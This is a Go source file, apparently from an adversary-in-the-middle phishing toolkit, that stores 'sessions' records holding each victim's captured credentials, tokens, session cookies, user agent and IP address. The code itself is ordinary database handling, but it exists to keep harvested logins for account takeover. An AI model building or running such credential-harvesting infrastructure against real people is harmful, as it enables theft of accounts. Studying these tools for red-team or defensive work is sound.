package database

import (
	"encoding/json"
	"fmt"
	"strings"
	"time"

	"github.com/tidwall/buntdb"

	"github.com/snarelabs/snare/database/storage"
)

const SessionTable = "sessions"

func (d *Database) sessionsInit() {
	d.db.CreateIndex("sessions_id", SessionTable+":*", buntdb.IndexJSON("id"))
	d.db.CreateIndex("sessions_sid", SessionTable+":*", buntdb.IndexJSON("session_id"))
}

func (d *Database) sessionsCreate(sid string, phishlet string, landingURL string, userAgent string, remoteAddr string) (*storage.Session, error) {
	_, err := d.sessionsGetBySid(sid)
	if err == nil {
		return nil, fmt.Errorf("session already exists: %s", sid)
	}

	id, _ := d.getNextId(SessionTable)

	s := &storage.Session{
		Id:           id,
		SessionId:    sid,
		Phishlet:     phishlet,
		LandingURL:   landingURL,
		Credentials:  make(map[string]string),
		Tokens:       make(map[string]string),
		CookieTokens: make(map[string]map[string]*storage.CookieToken),
		Status:       "active",
		UserAgent:    userAgent,
		RemoteAddr:   remoteAddr,
		CreateTime:   time.Now().UTC().Unix(),
		UpdateTime:   time.Now().UTC().Unix(),
	}

	jf, _ := json.Marshal(s)

	err = d.db.Update(func(tx *buntdb.Tx) error {
		_, _, err := tx.Set(d.genIndex(SessionTable, id), string(jf), nil)
		return err
	})
	if err != nil {
		return nil, err
	}
	return s, nil
}

func (d *Database) sessionsList() ([]*storage.Session, error) {
	sessions := []*storage.Session{}
	err := d.db.View(func(tx *buntdb.Tx) error {
		tx.Ascend("sessions_id", func(key, val string) bool {
			if strings.HasSuffix(key, ":0:id") {
				return true
			}
			var s storage.Session
			if err := json.Unmarshal([]byte(val), &s); err == nil {
				sessions = append(sessions, &s)
			}
			return true
		})
		return nil
	})
	if err != nil {
		return nil, err
	}
	return sessions, nil
}

func (d *Database) sessionsGetBySid(sid string) (*storage.Session, error) {
	var s *storage.Session
	err := d.db.View(func(tx *buntdb.Tx) error {
		tx.AscendEqual("sessions_sid", `{"session_id":"`+sid+`"}`, func(key, val string) bool {
			var ts storage.Session
			if err := json.Unmarshal([]byte(val), &ts); err == nil {
				s = &ts
			}
			return false
		})
		return nil
	})
	if err != nil {
		return nil, err
	}
	if s == nil {
		return nil, fmt.Errorf("session not found: %s", sid)
	}
	return s, nil
}

func (d *Database) sessionsDelete(id int) error {
	return d.db.Update(func(tx *buntdb.Tx) error {
		_, err := tx.Delete(d.genIndex(SessionTable, id))
		return err
	})
}
